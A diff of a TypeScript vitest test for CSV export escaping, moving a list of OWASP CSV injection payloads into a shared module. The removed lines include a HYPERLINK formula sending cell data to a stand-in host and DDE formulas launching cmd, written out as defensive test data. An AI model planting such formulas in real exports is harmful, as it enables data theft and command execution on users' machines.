@@ -1,21 +1,6 @@
 import { describe, expect, it } from "vitest";
+import { CSV_INJECTION_PAYLOADS } from "../../test/hostile/payloads";
 import { csvCell, csvResponse, toCsv } from "./csv";
-
-// OWASP CSV injection payloads: each must come out quoted and, if it starts a formula, prefixed.
-export const CSV_INJECTION_PAYLOADS = [
-  "=1+1",
-  "+1+1",
-  "-1+1",
-  "@SUM(1,1)",
-  "\t=1+1",
-  "\r=1+1",
-  "\n=1+1",
-  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
-  "=cmd|' /C calc'!A0",
-  '"=1+1"',
-  "-2+3+cmd|' /C calc'!A0",
-  "@\u200b=1+1",
-] as const;
 
 describe("csvCell", () => {
   it.each(CSV_INJECTION_PAYLOADS)("neutralises %j", (payload) => {
